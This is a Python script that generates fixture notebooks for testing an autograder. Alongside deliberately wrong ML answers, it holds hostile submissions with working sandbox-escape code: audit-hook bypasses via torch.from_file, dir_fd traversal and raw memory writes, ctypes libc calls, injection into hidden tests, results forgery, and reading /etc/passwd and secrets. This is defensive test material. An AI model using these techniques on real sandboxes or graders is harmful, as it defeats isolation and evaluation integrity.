"""Write the fixture submissions of tests/test_grading.py (run it after changing them):

    .venv/bin/python tests/grading_submissions/make_fixtures.py

Each fixture is a notebook that a student could hand in: deliberately wrong answers (whose exact
partial marks the tests know), and hostile ones that try to break, fool or escape the grader.
``01_vae/`` holds submissions for assignment 1, ``05_diffusion/`` three wrong ones (each misses
a different convention), the others one wrong submission each.
These notebooks are data for the grader: never run them yourself.
"""

import json
import textwrap
from pathlib import Path

HERE = Path(__file__).parent

IMPORTS = """
import math
import os
import sys
import time

import numpy as np
import torch
from torch.nn import functional as F
"""

KL_DISCRETE = """
def kl_discrete(p, q):
    p, q = np.asarray(p, dtype=np.float64), np.asarray(q, dtype=np.float64)
    support = p > 0
    if np.any(q[support] == 0):
        return math.inf
    return float(np.sum(p[support] * np.log(p[support] / q[support])))
"""

KL_PQ = """
P = np.array([0.36, 0.48, 0.16])
Q = np.ones(3) / 3
kl_pq = float(np.sum(P * np.log(P / Q)))
kl_qp = float(np.sum(Q * np.log(Q / P)))
"""

KL_GAUSSIAN = """
def kl_gaussian(mu, logvar):
    return 0.5 * (torch.exp(logvar) + mu.pow(2) - 1 - logvar).sum(dim=-1)
"""

REPARAMETERIZE = """
def reparameterize(mu, logvar, eps):
    return mu + torch.exp(0.5 * logvar) * eps
"""

NEGATIVE_ELBO = """
def negative_elbo(x, logits, mu, logvar):
    nll = F.binary_cross_entropy_with_logits(logits, x, reduction="none").flatten(1).sum(1)
    return nll + 0.5 * (torch.exp(logvar) + mu.pow(2) - 1 - logvar).sum(dim=-1)
"""

CORRECT = [IMPORTS, KL_DISCRETE, KL_PQ, KL_GAUSSIAN, REPARAMETERIZE, NEGATIVE_ELBO]


def notebook(cells):
    """A minimal nbformat-4 notebook with these code cells."""
    return {
        "cells": [
            {
                "cell_type": "code",
                "execution_count": None,
                "id": f"cell-{i}",
                "metadata": {},
                "outputs": [],
                "source": textwrap.dedent(source).strip() + "\n",
            }
            for i, source in enumerate(cells)
        ],
        "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }


def replace(cells, old, new):
    return [new if cell == old else cell for cell in cells]


ATTEMPTS = '''
def attempt(what, action):
    """Try something the sandbox must refuse, and say what happened."""
    try:
        action()
        print(f"NOT REFUSED: {what}")
    except Exception as exc:
        print(f"refused: {what}: {type(exc).__name__}: {exc}")
'''

VAE_FIXTURES = {
    # q1 fails (0·log 0 gives NaN), q4 uses the variance, q5 takes logs of probabilities: 3 of 8
    "wrong": replace(
        replace(
            replace(
                CORRECT,
                KL_DISCRETE,
                """
                def kl_discrete(p, q):
                    p, q = np.asarray(p, dtype=np.float64), np.asarray(q, dtype=np.float64)
                    return float(np.sum(p * np.log(p / q)))
                """,
            ),
            REPARAMETERIZE,
            """
            def reparameterize(mu, logvar, eps):
                return mu + torch.exp(logvar) * eps
            """,
        ),
        NEGATIVE_ELBO,
        """
        def negative_elbo(x, logits, mu, logvar):
            p = torch.sigmoid(logits)
            nll = -(x * torch.log(p) + (1 - x) * torch.log(1 - p)).flatten(1).sum(1)
            return nll + 0.5 * (torch.exp(logvar) + mu.pow(2) - 1 - logvar).sum(dim=-1)
        """,
    ),
    # a cell raises, and kl_discrete raises when called: 6 of 8
    "raises": [
        *replace(
            CORRECT,
            KL_DISCRETE,
            """
            def kl_discrete(p, q):
                raise RuntimeError("not finished")
            """,
        ),
        'raise ValueError("a cell that fails")',
    ],
    # sys.exit in a cell, exit() in another, SystemExit from kl_gaussian: 6 of 8
    "sys_exit": [
        "import sys\nsys.exit(0)",
        *replace(
            CORRECT,
            KL_GAUSSIAN,
            """
            def kl_gaussian(mu, logvar):
                raise SystemExit(3)
            """,
        ),
        "exit()",
    ],
    # os._exit after defining everything: the process ends before any probe, 0 of 8
    "os_exit": [*CORRECT, "os._exit(0)"],
    # a cell that never ends is stopped at the cell time limit, the rest is graded: 8 of 8
    "forever_cell": [*CORRECT[:3], "while True:\n    pass", *CORRECT[3:]],
    # kl_gaussian never returns: stopped at the probe time limit, 6 of 8
    "forever_function": replace(
        CORRECT,
        KL_GAUSSIAN,
        """
        def kl_gaussian(mu, logvar):
            while True:
                pass
        """,
    ),
    # swallows the time-limit exception: killed at the submission's time limit, 0 of 8
    "unkillable": [
        *CORRECT,
        """
        while True:
            try:
                time.sleep(0.05)
            except BaseException:
                pass
        """,
    ],
    # prints 40 MB: the output file is capped, the printing cell fails, 8 of 8
    "prints_megabytes": [*CORRECT, 'for _ in range(40):\n    print("x" * 1_000_000)'],
    # a str, NaN, a NumPy array where gradients are needed, a wrong shape: only q2 (1 of 8)
    "nan_and_types": [
        IMPORTS,
        """
        def kl_discrete(p, q):
            return "0.5"
        """,
        KL_PQ,
        """
        def kl_gaussian(mu, logvar):
            return torch.full(mu.shape[:-1], float("nan"), dtype=mu.dtype)
        """,
        """
        def reparameterize(mu, logvar, eps):
            return (mu + torch.exp(0.5 * logvar) * eps).detach().numpy()
        """,
        """
        def negative_elbo(x, logits, mu, logvar):
            return F.binary_cross_entropy_with_logits(logits, x, reduction="none")
        """,
    ],
    # deletes, edits, renames, re-permissions files outside its folder: all refused, 8 of 8
    "deletes_files": [
        *CORRECT,
        ATTEMPTS,
        """
        import pathlib
        import shutil

        import gencourse.grading.harness

        canary = "/tmp/gencourse-grading-canary/canary.txt"
        grader_file = gencourse.grading.harness.__file__
        attempt("delete the canary", lambda: os.remove(canary))
        attempt("delete its folder", lambda: shutil.rmtree(os.path.dirname(canary)))
        attempt("rename the canary", lambda: os.rename(canary, canary + ".moved"))
        attempt("overwrite the canary", lambda: open(canary, "w").write("overwritten"))
        attempt("append to the canary", lambda: pathlib.Path(canary).open("a").write("more"))
        attempt("truncate the canary", lambda: os.truncate(canary, 0))
        attempt("chmod the canary", lambda: os.chmod(canary, 0))
        attempt("touch the canary", lambda: os.utime(canary, (0, 0)))
        attempt("hard-link the canary", lambda: os.link(canary, "hard"))
        attempt("symlink the canary", lambda: os.symlink(canary, "soft"))
        attempt("edit the grader", lambda: open(grader_file, "a").write("# edited"))
        attempt("delete the grader", lambda: os.remove(grader_file))
        attempt("open the canary's folder", lambda: os.open(os.path.dirname(canary), os.O_RDONLY))
        attempt("leave the sandbox", lambda: os.chdir("/tmp"))
        """,
    ],
    # starts processes that would outlive it: all refused, 8 of 8
    "leaves_process": [
        *CORRECT,
        ATTEMPTS,
        """
        import importlib.util
        import multiprocessing
        import subprocess

        attempt("subprocess", lambda: subprocess.Popen(["sleep", "1234.5"]))
        attempt("os.system", lambda: os.system("sleep 1234.6 &"))
        attempt("os.posix_spawn", lambda: os.posix_spawn("/bin/sleep", ["sleep", "1234.7"], os.environ))
        attempt("os.fork", lambda: os.fork())
        attempt("multiprocessing", lambda: multiprocessing.Process(target=time.sleep, args=(1234.8,)).start())
        attempt("os.kill the grader", lambda: os.kill(os.getppid(), 9))
        attempt(
            "a fresh _posixsubprocess",
            lambda: importlib.util.module_from_spec(importlib.util.find_spec("_posixsubprocess")),
        )
        """,
    ],
    # tries to read the solutions, the hidden tests and the answers' modules: q2 and q4 only, 2 of 8
    "reads_secrets": [
        IMPORTS,
        ATTEMPTS,
        KL_PQ,
        REPARAMETERIZE,
        "from gencourse.divergences import kl_discrete",
        """
        import pathlib

        import gencourse

        root = pathlib.Path(gencourse.__file__).resolve().parents[1]
        source = (root / "assignments" / "01_vae" / "01_vae.py").read_text()
        exec(source.split("def kl_gaussian")[1].join(["def kl_gaussian", ""]))
        """,
        """
        import importlib.util

        spec = importlib.util.spec_from_file_location("stolen", pathlib.Path(gencourse.__file__).parent / "vae.py")
        stolen = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(stolen)


        def negative_elbo(x, logits, mu, logvar):
            return -stolen.elbo_terms(x, logits, mu, logvar)
        """,
        """
        attempt("read the hidden tests", lambda: (root / "assignments" / "01_vae" / "hidden_tests.py").read_text())
        attempt("read the autograder", lambda: open(root / "_build/assignments/01_vae/autograder/01_vae.ipynb").read())
        attempt("read the plan", lambda: open("../plan.json").read())
        attempt("read /etc/passwd", lambda: open("/etc/passwd").read())
        attempt("import the answers", lambda: __import__("gencourse.vae"))
        attempt("read the grader's secret variable", lambda: os.environ["GENCOURSE_TEST_SECRET"])
        """,
    ],
    # wrong answers behind an __eq__ that always answers True and patched comparisons: 0 of 8
    "tampers": [
        IMPORTS,
        """
        import gencourse.grading.plain
        import gencourse.grading.spec


        class AlwaysEqual:
            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False


        class FloatEqual(float):
            def __eq__(self, other):
                return True

            __hash__ = float.__hash__


        class TensorEqual(torch.Tensor):
            def __eq__(self, other):
                return True


        kl_pq = AlwaysEqual()
        kl_qp = FloatEqual(0.0)
        np.allclose = np.isclose = np.array_equal = lambda *args, **kwargs: True
        torch.allclose = torch.equal = lambda *args, **kwargs: True
        torch.Tensor.__bool__ = lambda self: True
        math.isclose = lambda *args, **kwargs: True
        gencourse.grading.spec.close = lambda *args, **kwargs: (lambda *a: None)
        gencourse.grading.plain.to_plain = lambda value, depth=0: {"kind": "number", "value": 0.0}


        def kl_discrete(p, q):
            return 0.0


        def kl_gaussian(mu, logvar):
            return torch.zeros(mu.shape[:-1], dtype=mu.dtype).as_subclass(TensorEqual)


        def reparameterize(mu, logvar, eps):
            return mu


        def negative_elbo(x, logits, mu, logvar):
            return torch.zeros(len(x), dtype=x.dtype)
        """,
    ],
    # writes its own results file (true values for q2, zeros elsewhere, an extra and a malformed
    # entry) and ends the process before the harness can overwrite it: q2 only, 1 of 8
    "forges_results": [
        IMPORTS,
        """
        import json

        frame, results, plan = sys._getframe(), None, None
        while frame is not None:
            results = results or (frame.f_locals.get("results") if hasattr(frame.f_locals.get("results"), "fd") else None)
            plan = plan or frame.f_locals.get("plan")
            frame = frame.f_back
        P, Q = np.array([0.36, 0.48, 0.16]), np.ones(3) / 3
        truth = {"kl_pq": float(np.sum(P * np.log(P / Q))), "kl_qp": float(np.sum(Q * np.log(Q / P)))}
        probes = {p["id"]: {"kind": "number", "value": truth.get(p["target"], 0.0)} for p in plan["probes"]}
        probes["q9:0"] = {"kind": "number", "value": 1.0}
        probes["q5:0"] = {"kind": "array", "dtype": "float", "shape": [1], "data": ["not a number"]}
        lines = [{"probe": key, "value": value} for key, value in probes.items()] + [{"done": True}]
        os.write(results.fd, "".join(json.dumps(line) + "\\n" for line in lines).encode())
        os._exit(0)
        """,
    ],
    # asks for more memory than the limit: the allocation fails, kl_gaussian is defined, 8 of 8
    "memory_hog": [
        *[c for c in CORRECT if c != KL_GAUSSIAN],
        """
        try:
            big = bytearray(3 * 2**30)
        except MemoryError:
            def kl_gaussian(mu, logvar):
                return 0.5 * (torch.exp(logvar) + mu.pow(2) - 1 - logvar).sum(dim=-1)
        """,
    ],
}

# --------------------------------------------------------------------------------------------
# issue 24: the breaks of the audit-hook sandbox, each with its exact technique. The grader's
# operating-system sandbox must close them all (see tests/test_grading.py for what each must
# reach). Ports and paths that the tests watch are fixed here.

FIND_PATHS = '''
import pathlib

import gencourse

PACKAGE = pathlib.Path(gencourse.__file__).resolve().parent
REPO = PACKAGE.parent
CANARY = "/tmp/gencourse-grading-canary/canary.txt"


def paths_in_frames():
    """Every absolute path that the harness's frames hold (its plan, its request, ...)."""
    found, frame = set(), sys._getframe()
    while frame is not None:
        stack = list(frame.f_locals.values())
        while stack:
            value = stack.pop()
            if isinstance(value, str) and value.startswith("/") and len(value) < 300:
                found.add(value)
            elif isinstance(value, dict):
                stack += list(value.values())[:2000]
            elif isinstance(value, (list, tuple, set, frozenset)):
                stack += list(value)[:2000]
        frame = frame.f_back
    return found


def secret_files():
    """The hidden tests, the solution and the answer modules: the repository's layout, and any
    file the frames name."""
    known = {
        REPO / "assignments" / "01_vae" / "hidden_tests.py",
        REPO / "assignments" / "01_vae" / "01_vae.py",
        PACKAGE / "divergences.py",
        PACKAGE / "vae.py",
    }
    secrets = ("hidden_tests.py", "01_vae.py", "01_vae.ipynb", "divergences.py", "vae.py")
    named = {pathlib.Path(p) for p in paths_in_frames() if p.endswith(secrets)}
    return sorted(str(p) for p in known | named)


def secret_folders():
    """The folders that grading uses: the repository's assignments, and every folder that the
    frames name (the results, the submissions, the run's own folder)."""
    folders = {REPO / "assignments" / "01_vae", REPO / "assignments", pathlib.Path(CANARY).parent}
    for p in paths_in_frames():
        folders |= {pathlib.Path(p), pathlib.Path(p).parent}
    return sorted(str(f) for f in folders if str(f) not in ("/", "/submission"))


def solution_functions(text):
    """Exec every top-level function of a solution or answer module's source here."""
    import re

    for block in re.findall(r"^def \\w+\\(.*?\\n(?=\\S)", text + "\\nEND", flags=re.M | re.S):
        try:
            exec(block, globals())
        except Exception as exc:
            print("exec failed:", type(exc).__name__, exc)
'''

ISSUE_24 = {
    # break 1: torch's C++ I/O reads files without an `open` audit event; the paths come from the
    # frames; the stolen functions replace the notebook's; torch.save and from_file(shared=True)
    # write outside. Honest work: q2 only, so at most 1 of 8
    "torch_reads_answers": [
        IMPORTS,
        KL_PQ,
        FIND_PATHS,
        """
        def torch_read(path):
            size = os.stat(path).st_size
            return bytes(torch.from_file(path, size=size, dtype=torch.uint8).numpy()) if size else b""


        visible = str(PACKAGE / "grading" / "harness.py")  # the technique works where files exist
        print("torch read without an audit event:", len(torch_read(visible)), "bytes of", visible)
        for path in secret_files():
            try:
                text = torch_read(path).decode("utf-8", "replace")
            except Exception as exc:
                print("not read:", path, type(exc).__name__)
                continue
            if "def " in text:
                print("STOLEN", path, len(text))
                solution_functions(text)
            else:
                print("nothing in", path)
        for folder in secret_folders():
            try:
                torch.save(torch.zeros(3), folder + "/planted-by-student.pt")
                print("PLANTED", folder)
            except Exception as exc:
                pass
        try:
            shared = torch.from_file(CANARY, shared=True, size=7, dtype=torch.uint8)
            shared[:] = 0
            print("OVERWROTE THE CANARY")
        except Exception as exc:
            print("canary not reached:", type(exc).__name__)
        """,
    ],
    # breaks 2 and 3: a relative path with dir_fd is checked by the hook against the working
    # directory and resolved by the kernel against the descriptor: read the solution and the
    # answer modules, and append a line to hidden_tests.py that the next grading run would
    # execute. Honest work: q2 only
    "dir_fd_answers": [
        IMPORTS,
        KL_PQ,
        FIND_PATHS,
        """
        here = os.getcwd()
        depth = len(pathlib.Path(here).parts) - 1
        os.makedirs("/".join(["d"] * depth), exist_ok=True)
        base = os.open(".", os.O_RDONLY)
        os.chdir("/".join(["d"] * depth))
        up = "/".join([".."] * depth)


        def through_fd(path, flags=os.O_RDONLY):
            return os.open(up + path, flags, dir_fd=base)


        try:  # the hook sees a path inside the folder, the kernel opens one outside it
            fd = through_fd("/usr/lib/os-release")
            print("dir_fd passed the hook:", len(os.read(fd, 4096)), "bytes of /usr/lib/os-release")
            os.close(fd)
        except OSError as exc:
            print("dir_fd control failed:", exc.strerror)

        for path in secret_files():
            try:
                fd = through_fd(path)
                text = os.read(fd, 1 << 22).decode("utf-8", "replace")
                os.close(fd)
            except OSError as exc:
                print("not read:", path, exc.strerror)
                continue
            if "def " in text:
                print("STOLEN", path, len(text))
                solution_functions(text)
        try:
            fd = through_fd(str(REPO / "assignments" / "01_vae" / "hidden_tests.py"), os.O_WRONLY | os.O_APPEND)
            os.write(fd, b"\\nimport os; os.environ['GENCOURSE_INJECTED'] = 'the student ran code in the grader'\\n")
            os.close(fd)
            print("INJECTED")
        except OSError as exc:
            print("hidden tests not reached:", exc.strerror)
        os.chdir(here)
        """,
    ],
    # break 4: files planted in the results, submissions and assignment folders (every folder
    # the frames name), and `<out>/feedback` made a file. Honest work: everything, 8 of 8
    "plants_files": [
        *CORRECT,
        FIND_PATHS,
        """
        import glob

        guesses = glob.glob("/tmp/pytest-of-*/pytest-*/grading*/*")
        for folder in [*secret_folders(), *guesses]:
            for name in ("planted-by-student.txt", "feedback"):
                try:
                    with open(os.path.join(folder, name), "x") as f:
                        f.write("planted")
                    print("PLANTED", folder, name)
                except Exception:
                    pass
        """,
    ],
    # break 5: torch.distributed.TCPStore listens on a port (no Python socket event), and
    # connects to a port on the host; the test watches both. Honest work: 8 of 8
    "tcp_store": [
        *CORRECT,
        """
        import datetime

        import torch.distributed as dist

        try:
            server = dist.TCPStore("127.0.0.1", 29517, 1, True, timeout=datetime.timedelta(seconds=2))
            print("LISTENING on 29517")
        except Exception as exc:
            print("no listening store:", type(exc).__name__)
        try:
            client = dist.TCPStore("127.0.0.1", 29518, 1, False, timeout=datetime.timedelta(seconds=2))
            print("CONNECTED to the host's 29518")
        except Exception as exc:
            print("no connection to the host:", type(exc).__name__)
        time.sleep(5)  # while the test knocks on 29517 from outside
        """,
    ],
    # break 6: arbitrary memory reads and writes (NumPy's array interface on any address: no
    # audit event), used to empty the hook's refused prefixes; then ctypes (already imported by
    # torch) calls libc: open the hidden tests, overwrite the canary, connect to the host's
    # port 29518. Honest work: 8 of 8
    "memory_access": [
        *CORRECT,
        FIND_PATHS,
        """
        import ctypes as _unused  # already in sys.modules: no import event

        ctypes = sys.modules["ctypes"]


        def memory(address, size):
            class Raw:
                __array_interface__ = {"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}

            return np.asarray(Raw())


        def hook_locals():
            try:
                open("/etc/passwd")
            except PermissionError as exc:
                tb = exc.__traceback__
                while tb is not None:
                    if tb.tb_frame.f_code.co_name == "hook":
                        return tb.tb_frame.f_locals
                    tb = tb.tb_next
            return {}


        state = hook_locals()
        print("hook state reached:", sorted(state)[:8])
        for name in ("refused_prefixes", "deny_roots"):
            if isinstance(state.get(name), tuple):
                memory(id(state[name]) + 16, 8)[:] = 0  # ob_size = 0: an empty tuple
        print("refused prefixes now:", state.get("refused_prefixes"))
        try:
            libc = ctypes.CDLL(None)
            buffer = ctypes.create_string_buffer(4096)
            for path in secret_files():
                fd = libc.open(path.encode(), 0)
                if fd >= 0 and libc.read(fd, buffer, 4096) > 0:
                    print("LIBC READ", path)
            fd = libc.open(CANARY.encode(), os.O_WRONLY | os.O_TRUNC)
            if fd >= 0:
                libc.write(fd, b"overwritten", 11)
                print("LIBC OVERWROTE THE CANARY")
            sock = libc.socket(2, 1, 0)
            address = (ctypes.c_ubyte * 16)(2, 0, 29518 >> 8, 29518 & 0xFF, 127, 0, 0, 1)  # AF_INET, port, 127.0.0.1
            if libc.connect(sock, address, 16) == 0:
                print("LIBC CONNECTED to the host's 29518")
        except Exception as exc:
            print("ctypes refused:", type(exc).__name__, exc)
        """,
    ],
    # break 7: the hook's file counter reset from a traceback's frame locals, then thousands of
    # files written in the submission's folder. Honest work: 8 of 8
    "resets_counter": [
        *CORRECT,
        """
        created, resets = 0, 0
        for i in range(3000):
            try:
                with open(f"file{i}.txt", "w") as f:
                    f.write("x")
                created += 1
            except PermissionError as exc:
                tb = exc.__traceback__
                while tb is not None:
                    counter = tb.tb_frame.f_locals.get("created")
                    if isinstance(counter, list):
                        counter[0] = 0
                        resets += 1
                    tb = tb.tb_next
            except OSError:
                break
        print(f"CREATED {created} files after {resets} resets")
        """,
    ],
    # break 10: a correct notebook of 1,000 cells that saves 400 files in its folder: 8 of 8
    "thousand_cells": [
        *CORRECT,
        """
        for i in range(400):
            np.save(f"array{i}.npy", np.zeros(3))
        """,
        *[f"x{i} = {i}" for i in range(1000 - len(CORRECT) - 1)],
    ],
}
# break 8 (a symbolic link to the solution notebook) is the committed link symlinked.ipynb, and
# break 9 (a FIFO named like a submission) is made by the test (git cannot store a FIFO)


GAN_WRONG = [  # q1 averages over both batches together, q3 forgets to flatten: 3 of 7
    """
    import torch
    from torch.nn import functional as F


    def discriminator_loss(name, d_real, d_fake):
        if name in ("mm", "ns"):
            return torch.cat([F.softplus(-d_real), F.softplus(d_fake)]).mean()
        if name == "wgan":
            return torch.cat([-d_real, d_fake]).mean()
        if name == "lsgan":
            return torch.cat([(d_real - 1) ** 2, d_fake**2]).mean()
        raise ValueError(name)


    def generator_loss(name, d_fake):
        if name == "mm":
            return -F.softplus(d_fake).mean()
        if name == "ns":
            return F.softplus(-d_fake).mean()
        if name == "wgan":
            return -d_fake.mean()
        if name == "lsgan":
            return (d_fake - 1).pow(2).mean()
        raise ValueError(name)


    def gradient_penalty(critic, real, fake, alpha):
        x_hat = (alpha * real + (1 - alpha) * fake).detach().requires_grad_(True)
        (grad,) = torch.autograd.grad(critic(x_hat).sum(), x_hat, create_graph=True)
        return (grad.norm(dim=1) - 1).pow(2).mean()


    def pack(x, m):
        if len(x) % m:
            raise ValueError("not a multiple")
        return x.reshape(len(x) // m, m * x.shape[1], *x.shape[2:])
    """
]

INVERSE_WRONG = [  # q2 keeps the first restart, q3 forgets scikit-learn's 1/m: 1 of 6
    """
    import numpy as np
    import torch
    from sklearn.linear_model import Lasso


    def csgm_loss(G, A, y, z, lam):
        return (y - G(z) @ A.T).pow(2).sum(1) + lam * z.pow(2).sum(1)


    def csgm_recover(G, A, y, z0, steps, lr, lam):
        z = z0[0].detach().clone().requires_grad_(True)
        opt = torch.optim.Adam([z], lr=lr)
        for _ in range(steps):
            opt.zero_grad()
            csgm_loss(G, A, y, z, lam).sum().backward()
            opt.step()
        with torch.no_grad():
            return G(z), z.detach()


    def lasso_recover(A, y, alpha):
        solver = Lasso(alpha=alpha, fit_intercept=False, max_iter=10_000)
        solver.fit(A.numpy(), y.numpy().T)
        return torch.from_numpy(np.atleast_2d(solver.coef_).reshape(len(y), A.shape[1]))
    """
]

ADVERSARIAL_WRONG = [  # q1 averages the loss, q3 never projects onto the ball, q4 skips the attack: 2 of 7
    """
    import torch
    from torch.nn import functional as F


    def input_gradient(model, x, y):
        x = x.detach().clone().requires_grad_(True)
        with torch.enable_grad():
            (grad,) = torch.autograd.grad(F.cross_entropy(model(x), y), x)
        return grad


    def fgsm(model, x, y, eps):
        return (x + eps * input_gradient(model, x, y).sign()).clamp(0, 1)


    def targeted_attack(model, x, target, eps, steps, step_size):
        x_adv = x.detach().clone()
        for _ in range(steps):
            x_adv = (x_adv - step_size * input_gradient(model, x_adv, target).sign()).clamp(0, 1)
        return x_adv


    def accuracy_under_fgsm(model, x, y, eps):
        with torch.no_grad():
            return float((model(x).argmax(1) == y).double().mean())
    """
]


def diffusion_given():
    """The given code of assignment 5 that the grader's probes call (the schedule helpers, the
    EpsilonModel wrapper and the graded_* functions), read from the assignment's source."""
    import jupytext

    source = jupytext.read(HERE.parent.parent / "assignments" / "05_diffusion" / "05_diffusion.py")
    marks = ("class EpsilonModel(nn.Module)", "def graded_ddpm_loss")
    return [
        cell.source
        for cell in source.cells
        if cell.cell_type == "code" and any(m in cell.source for m in marks)
    ]


DIFFUSION_IMPORTS = """
import math

import torch
from torch import nn
"""

DIFFUSION_Q_SAMPLE = """
def q_sample(x0, t, noise, alpha_bars):
    a = per_item(alpha_bars[t], x0)
    return a.sqrt() * x0 + (1 - a).sqrt() * noise
"""

DIFFUSION_Q_POSTERIOR = """
def q_posterior(x0, xt, t, betas):
    ab = torch.cumprod(1 - betas, dim=0)
    a_t, a_prev, beta = (per_item(v, xt) for v in (ab[t], ab[t - 1], betas[t]))
    mean = a_prev.sqrt() * beta / (1 - a_t) * x0 + (1 - beta).sqrt() * (1 - a_prev) / (1 - a_t) * xt
    return mean, (1 - a_prev) / (1 - a_t) * beta
"""

DIFFUSION_WRONG = [  # the posterior's variance is βₜ, the loss keeps the ELBO's weights λₜ, DDIM ignores η: 1 of 7
    DIFFUSION_IMPORTS,
    DIFFUSION_Q_SAMPLE,
    """
    def q_posterior(x0, xt, t, betas):
        ab = torch.cumprod(1 - betas, dim=0)
        a_t, a_prev, beta = (per_item(v, xt) for v in (ab[t], ab[t - 1], betas[t]))
        mean = a_prev.sqrt() * beta / (1 - a_t) * x0 + (1 - beta).sqrt() * (1 - a_prev) / (1 - a_t) * xt
        return mean, beta


    def ddpm_loss(model, x0, alpha_bars, generator=None):
        t = torch.randint(len(alpha_bars), (len(x0),), generator=generator)
        noise = torch.randn(x0.shape, generator=generator, dtype=x0.dtype)
        a_prev = torch.where(t > 0, alpha_bars[(t - 1).clamp(min=0)], 1.0)
        beta = 1 - alpha_bars[t] / a_prev
        weight = beta / (2 * (1 - beta) * (1 - a_prev).clamp(min=1e-3))
        errors = (noise - model(q_sample(x0, t, noise, alpha_bars), t)).pow(2).flatten(1).mean(1)
        return (weight * errors).mean()


    def ddim_step(model, xt, t, t_prev, alpha_bars, eta=0.0):
        eps = model(xt, t)
        a_t = per_item(alpha_bars[t], xt)
        a_s = per_item(torch.where(t_prev >= 0, alpha_bars[t_prev.clamp(min=0)], 1.0), xt)
        x0_hat = (xt - (1 - a_t).sqrt() * eps) / a_t.sqrt()
        return a_s.sqrt() * x0_hat + (1 - a_s).sqrt() * eps
    """,
]

DIFFUSION_WRONG_CONVENTIONS = [  # each function misreads a convention: 0 of 7
    DIFFUSION_IMPORTS,
    """
    def q_sample(x0, t, noise, alpha_bars):  # the variance 1 − ᾱ where its square root belongs
        a = per_item(alpha_bars[t], x0)
        return a.sqrt() * x0 + (1 - a) * noise


    def q_posterior(x0, xt, t, betas):  # ᾱₜ as the product over s < t (excludes t)
        ab = torch.cat([torch.ones(1, dtype=betas.dtype), torch.cumprod(1 - betas, dim=0)[:-1]])
        a_t, a_prev, beta = (per_item(v, xt) for v in (ab[t], ab[t - 1], betas[t]))
        mean = a_prev.sqrt() * beta / (1 - a_t) * x0 + (1 - beta).sqrt() * (1 - a_prev) / (1 - a_t) * xt
        return mean, (1 - a_prev) / (1 - a_t) * beta


    def ddpm_loss(model, x0, alpha_bars, generator=None):  # t in {1, …, T − 1}: never 0
        t = torch.randint(1, len(alpha_bars), (len(x0),), generator=generator)
        noise = torch.randn(x0.shape, generator=generator, dtype=x0.dtype)
        a = per_item(alpha_bars[t], x0)
        return (noise - model(a.sqrt() * x0 + (1 - a).sqrt() * noise, t)).pow(2).mean()


    def ddim_step(model, xt, t, t_prev, alpha_bars, eta=0.0):  # alpha_bars[-1] for the data
        eps = model(xt, t)
        a_t, a_s = per_item(alpha_bars[t], xt), per_item(alpha_bars[t_prev], xt)
        x0_hat = (xt - (1 - a_t).sqrt() * eps) / a_t.sqrt()
        sigma = eta * ((1 - a_s) / (1 - a_t)).sqrt() * (1 - a_t / a_s).sqrt()
        direction = (1 - a_s - sigma**2).clamp(min=0).sqrt() * eps
        return a_s.sqrt() * x0_hat + direction + sigma * torch.randn_like(xt)
    """,
]

DIFFUSION_WRONG_NOISE = [  # the loss draws uniform noise, DDIM shares one noise across the batch: 3 of 7
    DIFFUSION_IMPORTS,
    DIFFUSION_Q_SAMPLE,
    DIFFUSION_Q_POSTERIOR,
    """
    def ddpm_loss(model, x0, alpha_bars, generator=None):
        t = torch.randint(len(alpha_bars), (len(x0),), generator=generator)
        noise = (torch.rand(x0.shape, generator=generator, dtype=x0.dtype) - 0.5) * 2
        return (noise - model(q_sample(x0, t, noise, alpha_bars), t)).pow(2).mean()


    def ddim_step(model, xt, t, t_prev, alpha_bars, eta=0.0):
        eps = model(xt, t)
        a_t = per_item(alpha_bars[t], xt)
        a_s = per_item(torch.where(t_prev >= 0, alpha_bars[t_prev.clamp(min=0)], 1.0), xt)
        x0_hat = (xt - (1 - a_t).sqrt() * eps) / a_t.sqrt()
        sigma = eta * ((1 - a_s) / (1 - a_t)).sqrt() * (1 - a_t / a_s).sqrt()
        direction = (1 - a_s - sigma**2).clamp(min=0).sqrt() * eps
        return a_s.sqrt() * x0_hat + direction + sigma * torch.randn_like(xt[:1])
    """,
]


def main():
    folder = HERE / "01_vae"
    folder.mkdir(exist_ok=True)
    for name, cells in {**VAE_FIXTURES, **ISSUE_24}.items():
        text = json.dumps(notebook(cells), indent=1) + "\n"
        (folder / f"{name}.ipynb").write_text(text)
    (folder / "not_json.ipynb").write_text('{"cells": [{"cell_type": "code", "source": "print(1)"\n')
    (folder / "empty.ipynb").write_text(json.dumps(notebook([]), indent=1) + "\n")
    link = folder / "symlinked.ipynb"
    if not link.is_symlink():
        link.symlink_to("../../../assignments/01_vae/01_vae.ipynb")
    for name, cells in (
        ("02_gan", GAN_WRONG),
        ("03_inverse", INVERSE_WRONG),
        ("04_adversarial", ADVERSARIAL_WRONG),
    ):
        (HERE / name).mkdir(exist_ok=True)
        (HERE / name / "wrong.ipynb").write_text(json.dumps(notebook(cells), indent=1) + "\n")
    given = diffusion_given()
    for name, cells in (
        ("wrong", DIFFUSION_WRONG),
        ("wrong_conventions", DIFFUSION_WRONG_CONVENTIONS),
        ("wrong_noise", DIFFUSION_WRONG_NOISE),
    ):
        (HERE / "05_diffusion").mkdir(exist_ok=True)
        notebook_cells = [cells[0], *given, *cells[1:]]
        (HERE / "05_diffusion" / f"{name}.ipynb").write_text(
            json.dumps(notebook(notebook_cells), indent=1) + "\n"
        )


if __name__ == "__main__":
    main()
